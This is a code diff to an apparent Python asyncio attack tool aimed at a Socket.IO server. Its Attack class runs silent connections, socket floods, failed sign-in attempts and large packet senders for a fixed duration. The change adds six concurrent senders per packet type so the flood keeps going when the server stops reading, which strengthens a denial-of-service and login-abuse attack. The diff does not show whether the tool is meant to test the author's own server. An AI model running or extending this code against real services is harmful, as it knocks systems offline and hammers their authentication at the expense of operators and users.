@@ -27,6 +27,8 @@ PIECE = 60_000
 POSTED = 250_000
 EMPTY_FRAGMENTS = 2_000
 EVENTS_AT_ONCE = 10
+# Of each kind of packet at once, because one may have to wait for a server that reads no more.
+SENDERS = 6
 ENTER = b"40/_event,{}"
 _SID = re.compile(rb'"sid":"([^"]+)"')
 
@@ -73,12 +75,16 @@ class Attack:
     async def run(self) -> dict[str, int]:
         """Attack for the strength's seconds."""
         ends = time.monotonic() + self._strength.seconds
-        each = self._strength.packet_bytes // len(self._packets())
+        each = self._strength.packet_bytes // len(self._packets()) // SENDERS
         work = [
             *(self._silent(number) for number in range(self._strength.silent)),
             *(self._flood(ends) for _ in range(self._strength.sockets)),
             *(self._wrong_sign_in(number) for number in range(self._strength.sign_ins)),
-            *(self._send_packets(name, way, each, ends) for name, way in self._packets().items()),
+            *(
+                self._send_packets(name, way, each, ends)
+                for name, way in self._packets().items()
+                for _ in range(SENDERS)
+            ),
         ]
         tasks = [asyncio.create_task(one) for one in work]
         await asyncio.sleep(max(0.0, ends - time.monotonic()))
